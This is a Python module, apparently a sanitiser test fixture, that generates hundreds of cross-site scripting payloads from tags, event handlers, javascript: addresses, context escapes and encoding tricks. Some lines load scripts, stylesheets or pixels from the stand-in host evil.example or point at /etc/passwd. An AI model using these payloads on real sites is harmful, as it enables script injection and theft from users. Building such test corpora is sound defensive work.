"""Markup that would act in a browser: generated from tags, events, addresses, ways out of a context, and disguises."""

import itertools

FIRE = "__fired(1)"
"""What each of them would call; no page of ours has it."""
EVENTS = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerover", "OnErRoR",
    "onbegin",
)  # fmt: skip
TAGS = (
    "<img src=x {e}={f}>", "<svg {e}={f}>", "<svg/{e}={f}>", "<body {e}={f}>", "<details open {e}={f}>x</details>",
    "<input autofocus {e}={f}>", "<video {e}={f}><source {e}={f}></video>", "<a {e}={f} href=x>x</a>",
    "<iframe {e}={f}></iframe>", "<math><mi {e}={f}>x</mi></math>", "<select autofocus {e}={f}></select>",
    "<marquee {e}={f}>x</marquee>", "<div style=animation-name:x {e}={f}>x</div>", "<x tabindex=1 {e}={f}>x</x>",
    "<img src=x {e}\n=\n'{f}'>", "<img/src=x/{e}={f}//",
)  # fmt: skip
WHOLE = (
    "<script>{f}</script>", "<ScRiPt>{f}</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<script\x20type=module>{f}</script>", "<svg><script>{f}</script></svg>", "<svg><script xlink:href=data:,{f} /></svg>",
    "<iframe srcdoc='<script>{f}</script>'>", "<iframe src=javascript:{f}>", "<object data=javascript:{f}>",
    "<embed src=javascript:{f}>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:{f}'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<form action=javascript:{f}><input type=submit autofocus></form>",
    "<button form=review formaction=//evil.example/>x</button>", "<template><script>{f}</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={f}>\">", "<math><mtext><table><mglyph><style><img src=x onerror={f}>",
    "<svg><foreignObject><script>{f}</script></foreignObject></svg>", "<svg><use href=data:image/svg+xml,{f}#x /></svg>",
    "<svg><animate onbegin={f} attributeName=x dur=1s>", "<!--><img src=x onerror={f}>-->", "<![CDATA[><script>{f}</script>]]>",
    "<?xml-stylesheet href=javascript:{f}?>", "<img src=//evil.example/pixel.gif>", "<img srcset=//evil.example/p.gif>",
    "<textarea></textarea><script>{f}</script>", "<title></title><script>{f}</script>", "<plaintext><script>{f}",
    "<xmp><script>{f}",
)  # fmt: skip
ADDRESSES = (
    "javascript:{f}", "JaVaScRiPt:{f}", "java\tscript:{f}", "java\nscript:{f}", " javascript:{f}", "\x01javascript:{f}",
    "javascript&colon;{f}", "&#106;avascript:{f}", "&#x6A;avascript:{f}", "data:text/html,<script>{f}</script>",
    "data:text/html;base64,PHNjcmlwdD4=", "vbscript:{f}", "//evil.example/", "\\\\evil.example\\x", "javascript://%0a{f}",
    "jav&#x09;ascript:{f}", "feed:javascript:{f}", "blob:{f}", "file:///etc/passwd", "view-source:javascript:{f}",
)  # fmt: skip
LINKS = (
    "[x]({a})", "[x](<{a}>)", "[x][r]\n\n[r]: {a}", "![x]({a})", "<{a}>", "[x]({a} \"t\")", "<a href=\"{a}\">x</a>",
    "[![x]({a})]({a})", "[x](\\{a})", "<a href='{a}' target=_blank>x</a>",
)  # fmt: skip
WAYS_OUT = (
    "\"><script>{f}</script>", "'><script>{f}</script>", "</textarea><script>{f}</script>", "</title><script>{f}</script>",
    "</script><script>{f}</script>", "--><script>{f}</script>", "]]><script>{f}</script>", "\" autofocus onfocus={f} x=\"",
    "' onmouseover={f} x='", "` onmouseover={f} x=`", "</pre><script>{f}</script>", "</code></pre><img src=x onerror={f}>",
    "{{{{constructor.constructor('{f}')()}}}}", "{{% raw %}}<script>{f}</script>", "${{{f}}}", "<%= {f} %>", "';{f}//",
    "\\\";{f}//", "\u2028{f}\u2029", "\x00<script>{f}</script>", "<scr\x00ipt>{f}</scr\x00ipt>", "\ufeff<script>{f}</script>",
    "&lt;script&gt;{f}&lt;/script&gt;", "&amp;lt;script&amp;gt;{f}", "%3Cscript%3E{f}%3C/script%3E", "\\u003cscript\\u003e{f}",
    "+ADw-script+AD4-{f}+ADw-/script+AD4-", "\uff1cscript\uff1e{f}", "<\u017fcript>{f}</\u017fcript>",
    "\u202e<script>{f}</script>",
)  # fmt: skip
FENCES = (
    "```html\n{p}\n```", "    {p}", "> {p}", "- {p}", "| {p} |\n|---|\n| x |", "`{p}`", "<details>{p}</details>", "# {p}",
    "~~~\n~~~\n{p}",
)  # fmt: skip


def payloads() -> list[str]:
    """Each once."""
    events = [tag.replace("{e}", event).replace("{f}", FIRE) for tag, event in itertools.product(TAGS, EVENTS)]
    whole = [one.replace("{f}", FIRE) for one in WHOLE]
    links = [link.replace("{a}", address).replace("{f}", FIRE) for link, address in itertools.product(LINKS, ADDRESSES)]
    out = [one.format(f=FIRE) for one in WAYS_OUT]
    fenced = [fence.replace("{p}", payload) for fence, payload in itertools.product(FENCES, [*whole, *out, *events[::7]])]
    return list(dict.fromkeys([*events, *whole, *links, *out, *fenced]))
